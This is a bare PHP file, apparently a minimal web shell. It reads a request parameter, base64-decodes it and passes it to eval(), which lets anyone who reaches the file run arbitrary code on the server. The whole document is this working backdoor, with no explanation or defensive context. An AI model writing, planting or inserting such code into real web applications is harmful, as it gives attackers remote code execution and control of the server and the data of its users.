<?php
$input = $_REQUEST['q'];
$code = trim($input);
$run = base64_decode($code);
eval($run);
